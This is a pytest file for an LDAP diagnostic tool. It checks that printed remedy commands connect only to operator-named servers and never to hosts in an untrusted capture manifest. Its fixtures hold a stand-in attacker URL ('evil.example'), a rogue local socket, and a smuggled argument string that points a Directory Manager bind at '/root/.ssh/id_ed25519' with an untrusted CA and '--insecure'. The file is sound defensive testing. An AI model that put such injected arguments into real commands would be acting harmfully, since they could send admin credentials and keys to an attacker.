"""What a capture says never decides where a printed command connects; what the operator named does."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import sick_site
from command import INCIDENT, diagnose
from ldapdiag.analysis.hosts.servers import ListeningServer, addressed
from ldapdiag.catalogue import installed_checks
from ldapdiag.diagnosis import diagnose as judged
from ldapdiag.evidence.ldap_session import SEPARATOR, LdapSession

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping


EVIL = "ldaps://evil.example:636"
SOCKET = "ldapi://%2Ftmp%2Fevil"
HOSTILE = "-x -D 'cn=Directory Manager' -y '/root/.ssh/id_ed25519' --ca-file '/tmp/evil.pem' --insecure"
CONNECTS = re.compile(
    r"(?:ldap\w+|dsconf\w*) (?:[^\n|]* )?(?:-H|-h|--hostname|--host)\s+(\S+)|Connect to server (\S+)\""
)


def commands(report: Mapping[str, Any]) -> Iterator[str]:
    for finding in report["findings"]:
        for remedy in finding["remedies"]:
            yield from (remedy[part] for part in ("text", "undo", "verify") if remedy[part])


def reported(*arguments: str | Path) -> dict[str, Any]:
    return json.loads(diagnose(*arguments, "--format", "json").text)


@pytest.fixture
def capture(tmp_path: Path) -> Path:
    """Return a capture of the incident whose manifest was written by somebody else."""
    folder = tmp_path / "capture"
    shutil.copytree(INCIDENT, folder)
    asked = f"LDAP searches for cn-monitor at {EVIL}{SEPARATOR}{EVIL} {HOSTILE}"
    pieces = [{"path": "ldap/cn-monitor.ldif", "folder": "ldap", "asked": asked}]
    (folder / "manifest.json").write_text(json.dumps({"schema": "ldapdiag.capture/1", "pieces": pieces}))
    return folder


def test_a_manifest_decides_neither_the_server_nor_the_password_nor_the_trust(capture: Path) -> None:
    shown = [one for one in commands(reported(capture, "--config", "none")) if "ldapmodify" in one]
    assert shown
    for one in shown:
        comment, tested, *lines = one.splitlines()
        assert comment == f"# LDAP_URI, exported once, must be the URL of ldap: the evidence says {EVIL}"
        assert tested.startswith(': "${LDAP_URI:?')
        rest = "\n".join(lines)
        assert '-H "${LDAP_URI:?}"' in rest
        assert not any(word in rest for word in ("evil", "id_ed25519", "REQCERT", " -y "))


@pytest.mark.parametrize(
    "asked",
    [
        f"LDAP searches for cn-monitor at {SOCKET}{SEPARATOR}{SOCKET} -Y EXTERNAL",
        f"ldapsearch -Y EXTERNAL -H {SOCKET} -b cn=monitor -s base on ldap",
    ],
    ids=["an LDAP session", "a script on the host"],
)
def test_a_manifest_decides_no_local_socket(capture: Path, asked: str) -> None:
    """A program at a path of its choice would be asked, and changed, instead of the server."""
    pieces = [{"path": "ldap/cn-monitor.ldif", "folder": "ldap", "asked": asked}]
    (capture / "manifest.json").write_text(json.dumps({"schema": "ldapdiag.capture/1", "pieces": pieces}))
    shown = [one for one in commands(reported(capture, "--config", "none")) if "ldapmodify" in one]
    assert shown
    for one in shown:
        said, _, *lines = one.splitlines()
        assert said == f"# LDAP_URI, exported once, must be the URL of ldap: the evidence says {SOCKET}"
        assert '-Q -Y EXTERNAL -H "${LDAP_URI:?}"' in "\n".join(lines)
        assert "ldapi:" not in "\n".join(lines)


@pytest.mark.parametrize("named", ["ldap", SOCKET])
def test_a_local_socket_that_was_read_live_is_that_of_a_named_host(named: str) -> None:
    server = ListeningServer(server="ldap", host="ldap", session=LdapSession(url=SOCKET, mechanism="EXTERNAL"))
    assert [one.is_named for one in addressed([server], {named})] == [True]
    assert [one.is_named for one in addressed([server], {"ldap2"})] == [False]


@pytest.mark.parametrize(("named", "url"), [(EVIL, EVIL), (f"{EVIL}/", EVIL), ("ldaps://other", "${LDAP_URI:?}")])
def test_a_target_of_the_site_configuration_names_the_server(
    capture: Path, tmp_path: Path, named: str, url: str
) -> None:
    site = tmp_path / "site.toml"
    site.write_text(f'schema = "ldapdiag.config/1"\n[targets.prod]\nevidence = ["{named}"]\n')
    shown = [one for one in commands(reported(capture, "--config", site)) if "ldapmodify" in one]
    assert shown
    assert all(f"-H {url}" in one or f'-H "{url}"' in one for one in shown)


def test_each_of_several_servers_has_a_variable_of_its_own() -> None:
    """Exported for one of them, it would send the commands of the other there."""
    servers = [ListeningServer(server=name, host=name) for name in ("ds-1", "ds.1", "ds2")]
    assert [one.mark for one in addressed(servers, ())] == ["ds_1", "ds_1_", "ds2"]
    assert [(one.mark, one.is_named) for one in addressed(servers[:2], {"ds.1"})] == [("", False), ("", True)]


def test_no_command_of_any_check_connects_to_what_evidence_names() -> None:
    """Every disease in the catalogue, and no server that the operator named."""
    remedies = [
        (remedy, part)
        for _, finding in judged(sick_site.bundle(), installed_checks()).found
        for remedy in finding.remedies
        for part in (remedy.text, remedy.undo, remedy.verify, remedy.brief)
    ]
    places = [
        (one.title, place) for one, part in remedies for found in CONNECTS.findall(part) for place in found if place
    ]
    assert len(places) > 50
    assert [one for one in places if not one[1].startswith(('"${LDAP_', "SERVER"))] == []
    untold = {one.title for one, part in remedies if '"${LDAP_' in part and " exported once, must be " not in part}
    assert untold == set()
